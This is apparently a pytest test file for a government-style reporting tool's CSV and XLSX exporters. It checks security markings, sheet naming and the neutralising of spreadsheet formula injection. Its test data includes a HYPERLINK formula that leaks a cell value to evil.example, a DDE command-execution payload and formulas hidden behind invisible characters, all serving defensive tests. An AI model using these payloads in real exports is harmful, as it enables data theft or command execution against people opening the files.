"""CSV and XLSX exports carry the marking and never hand a spreadsheet a formula."""

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from reporting.exports import ExportTable, safe_cell, sheet_names, to_csv, to_xlsx

DANGEROUS = (
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    " =1",
    "  =1+1",
    "\n-2",
    "=1",
    "-5",
)
HARMLESS = ("Facebook", "3.5 Public comment", "a=b", "1-2", "e-mail", "", "#N/A")
# A formula behind characters a reader cannot see: a byte-order mark, zero-width
# spaces and joiners, direction marks, other spaces, a blank filler letter, and the
# full-width signs.
HIDDEN = (
    "\ufeff=1+1",
    '\ufeff=HYPERLINK("http://evil.example/","Click")',
    "\ufeff@SUM(A1)",
    "\ufeff+1",
    "\ufeff-1",
    "\u200b=1",
    "\u200b\u200c\u200d-2",
    "\u2060+1",
    "\u200e=1",
    "\u202e=1",
    "\u00a0=1",
    "\u3000=1",
    " \ufeff =1",
    "\ufeff\t=1",
    "\u3164=1",
    "\uff1d1+1",
)
HARMLESS_BEHIND_INVISIBLES = ("\ufeffFacebook", "\u200b3.5 Public comment", "e\u200b=mc2")


def _table(**overrides) -> ExportTable:
    values = {
        "title": "Concerns by month",
        "header": ("Month", "Section", "Count"),
        "rows": (
            ("2026-01", "3.5 Public comment", 12),
            ("2026-02", "6.2 Privacy — Māori & Torres Strait 🙂", -3),
            ("2026-03", '=HYPERLINK("http://x")', 2.5),
        ),
        "note": "Counts below 5 are shown as <5.",
    }
    values.update(overrides)
    return ExportTable(**values)


def _read_csv(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")  # BOM: Excel reads the file as UTF-8
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def _load(data: bytes):
    return load_workbook(io.BytesIO(data))


def _cells(ws):
    return [cell for row in ws.iter_rows() for cell in row if cell.value is not None]


# --- safe_cell ---------------------------------------------------------------------


@pytest.mark.parametrize("text", DANGEROUS)
def test_text_a_spreadsheet_would_run_is_neutralised(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("text", HARMLESS)
def test_ordinary_text_is_unchanged(text):
    assert safe_cell(text) == text


@pytest.mark.parametrize("text", HIDDEN)
def test_a_formula_behind_invisible_characters_is_neutralised(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("text", HARMLESS_BEHIND_INVISIBLES)
def test_ordinary_text_behind_invisible_characters_is_unchanged(text):
    assert safe_cell(text) == text


@pytest.mark.parametrize(
    "value",
    [None, 0, -5, 3.25, -0.5, Decimal("-1.5"), True, dt.date(2026, 3, 1), dt.datetime(2026, 3, 1)],
)
def test_numbers_dates_and_none_are_returned_as_they_are(value):
    assert safe_cell(value) is value


# --- CSV ---------------------------------------------------------------------------


def test_csv_starts_with_the_marking_then_the_title_then_the_header():
    rows = _read_csv(to_csv(_table()))
    assert rows[0] == ["OFFICIAL: Sensitive"]
    assert rows[1] == ["Concerns by month"]
    assert rows[2] == ["Month", "Section", "Count"]
    assert rows[3] == ["2026-01", "3.5 Public comment", "12"]
    assert rows[-1] == ["Counts below 5 are shown as <5."]


def test_csv_marking_can_be_changed():
    rows = _read_csv(to_csv(_table(), marking="OFFICIAL"))
    assert rows[0] == ["OFFICIAL"]


def test_csv_neutralises_every_dangerous_prefix():
    table = _table(header=("Value",), rows=tuple((text,) for text in DANGEROUS), note="")
    rows = _read_csv(to_csv(table))
    assert [row[0] for row in rows[3:]] == ["'" + text for text in DANGEROUS]


def test_csv_neutralises_a_formula_behind_a_byte_order_mark_or_invisible_characters():
    table = _table(header=("Value",), rows=tuple((text,) for text in HIDDEN), note="")
    rows = _read_csv(to_csv(table))
    assert [row[0] for row in rows[3:]] == ["'" + text for text in HIDDEN]


def test_csv_neutralises_the_title_and_header_too():
    rows = _read_csv(to_csv(_table(title="=cmd|' /C calc'!A0", header=("@x", "-y", "z"))))
    assert rows[1] == ["'=cmd|' /C calc'!A0"]
    assert rows[2] == ["'@x", "'-y", "z"]


def test_csv_keeps_numbers_as_numbers_and_unicode_intact():
    rows = _read_csv(to_csv(_table()))
    assert rows[4] == ["2026-02", "6.2 Privacy — Māori & Torres Strait 🙂", "-3"]
    assert rows[5][2] == "2.5"


def test_csv_of_an_empty_table_has_marking_title_and_header():
    rows = _read_csv(to_csv(ExportTable(title="Nothing yet", header=("A", "B"), rows=())))
    assert rows == [["OFFICIAL: Sensitive"], ["Nothing yet"], ["A", "B"]]


# --- XLSX --------------------------------------------------------------------------


def test_xlsx_has_one_sheet_per_table_with_the_marking_in_row_one_and_the_header():
    data = to_xlsx([_table(), _table(title="By platform")], title="Monthly summary")
    workbook = _load(data)
    assert workbook.sheetnames == ["Concerns by month", "By platform"]
    assert workbook.properties.creator == "Social Media Conduct Tracker"
    assert workbook.properties.title == "Monthly summary"
    for ws in workbook.worksheets:
        assert ws["A1"].value == "OFFICIAL: Sensitive"
        assert ws["A1"].font.bold
        assert ws.oddHeader.center.text == "OFFICIAL: Sensitive"
        assert ws.oddFooter.center.text == "OFFICIAL: Sensitive"
        assert [c.value for c in ws[3]] == ["Month", "Section", "Count"]
        assert all(c.font.bold for c in ws[3])


def test_xlsx_table_layout_title_rows_and_note():
    ws = _load(to_xlsx([_table()])).active
    assert ws["A2"].value == "Concerns by month"
    assert [c.value for c in ws[4]] == ["2026-01", "3.5 Public comment", 12]
    assert ws["A8"].value == "Counts below 5 are shown as <5."


def test_xlsx_neutralises_every_dangerous_prefix_and_stores_no_formula():
    table = _table(header=("Value",), rows=tuple((text,) for text in DANGEROUS), note="")
    ws = _load(to_xlsx([table])).active
    values = [ws.cell(row=4 + i, column=1).value for i in range(len(DANGEROUS))]
    # openpyxl reads a stored "\r" back as "\n" (XML newline normalisation).
    assert values == ["'" + text.replace("\r", "\n") for text in DANGEROUS]
    assert all(cell.data_type != "f" for cell in _cells(ws))


def test_xlsx_neutralises_a_formula_behind_a_byte_order_mark_or_invisible_characters():
    table = _table(header=("Value",), rows=tuple((text,) for text in HIDDEN), note="")
    ws = _load(to_xlsx([table])).active
    values = [ws.cell(row=4 + i, column=1).value for i in range(len(HIDDEN))]
    assert values == ["'" + text for text in HIDDEN]
    assert all(cell.data_type != "f" for cell in _cells(ws))


def test_xlsx_text_cells_are_strings_even_when_they_look_like_errors():
    table = _table(header=("Value",), rows=(("#N/A",), ("#REF!",), ("3.5",)), note="")
    ws = _load(to_xlsx([table])).active
    assert [ws.cell(row=r, column=1).data_type for r in (4, 5, 6)] == ["s", "s", "s"]
    assert ws["A4"].value == "#N/A"


def test_xlsx_keeps_numbers_dates_and_unicode():
    when = dt.datetime(2026, 3, 1, 9, 30, tzinfo=dt.UTC)
    table = _table(
        header=("A", "B", "C", "D", "E"),
        rows=((-5, 2.5, Decimal("1.25"), dt.date(2026, 1, 31), when),),
        note="",
    )
    ws = _load(to_xlsx([table, _table(title="Unicode")])).worksheets
    row = [c.value for c in ws[0][4]]
    assert row[:3] == [-5, 2.5, 1.25]
    assert [c.data_type for c in ws[0][4][:3]] == ["n", "n", "n"]
    assert row[3].date() == dt.date(2026, 1, 31)
    assert row[4] == dt.datetime(2026, 3, 1, 9, 30)  # wall-clock time, Excel has no zones
    assert ws[1]["B5"].value == "6.2 Privacy — Māori & Torres Strait 🙂"


def test_xlsx_writes_other_values_as_neutralised_text_and_drops_control_characters():
    class Thing:
        def __str__(self):
            return "=1+1"

    table = _table(header=("A", "B"), rows=((Thing(), "bad\x00\x1bchars"),), note="")
    ws = _load(to_xlsx([table])).active
    assert ws["A4"].value == "'=1+1"
    assert ws["B4"].value == "badchars"


def test_sheet_names_follow_excel_rules_and_are_unique():
    titles = [
        "Outcomes by section [3.5]: public/private?*",
        "A title that is much longer than thirty-one characters in all",
        "A title that is much longer than thirty-one characters as well",
        "Same",
        "same",
        "",
        "'quoted'",
        "History",
    ]
    names = sheet_names(titles)
    assert all(0 < len(name) <= 31 for name in names)
    assert not any(set(name) & set("[]:*?/\\") for name in names)
    assert len({name.casefold() for name in names}) == len(names)
    assert names[0] == "Outcomes by section -3.5-- publ"
    assert names[3:5] == ["Same", "same (2)"]
    assert names[5] == "Sheet"
    assert names[6] == "quoted"
    assert names[7] != "History"


def test_xlsx_sheet_names_are_sanitised_and_unique_in_the_workbook():
    tables = [_table(title="By section: 3.5/3.9"), _table(title="By section: 3.5/3.9")]
    workbook = _load(to_xlsx(tables))
    assert workbook.sheetnames == ["By section- 3.5-3.9", "By section- 3.5-3.9 (2)"]
    assert workbook.worksheets[0]["A2"].value == "By section: 3.5/3.9"  # full title kept


def test_xlsx_of_an_empty_table_and_of_no_tables():
    empty = ExportTable(title="Nothing yet", header=("A", "B"), rows=())
    ws = _load(to_xlsx([empty])).active
    assert [c.value for c in ws[3]] == ["A", "B"]
    assert ws.max_row == 3
    ws = _load(to_xlsx([], title="Monthly summary")).active
    assert ws["A1"].value == "OFFICIAL: Sensitive"
    assert ws["A2"].value == "Monthly summary"


def test_xlsx_marking_can_be_changed_and_ampersands_survive_the_header():
    ws = _load(to_xlsx([_table()], marking="OFFICIAL & Sensitive")).active
    assert ws["A1"].value == "OFFICIAL & Sensitive"
    assert ws.oddHeader.center.text == "OFFICIAL && Sensitive"
